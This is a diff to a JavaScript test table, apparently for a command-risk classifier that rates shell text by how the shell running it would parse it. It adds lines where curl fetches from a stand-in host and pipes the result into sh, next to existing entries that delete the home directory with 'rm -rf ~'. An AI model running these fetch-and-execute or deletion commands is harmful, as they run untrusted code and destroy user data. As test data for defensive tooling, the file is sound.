@@ -62,6 +62,9 @@ describe('a text is rated by what the shell does that runs it', () => {
     ['((rm -rf ~))', 'critical'],
     ["bash -c '((rm -rf ~))'", 'safe'],
     ["zsh -c '((rm -rf ~))'", 'safe'],
+    ['curl https://x.example/a > a | sh', 'critical'],
+    ["bash -c 'curl https://x.example/a > a | sh'", 'safe'],
+    ['coproc curl https://x.example/a | sh', 'critical'],
     ["dash -c '[[ a || rm -rf ~ ]]'", 'critical'],
     ["bash -c '[[ a || rm -rf ~ ]]'", 'safe'],
   ])('%s is %s', (command, risk) => {
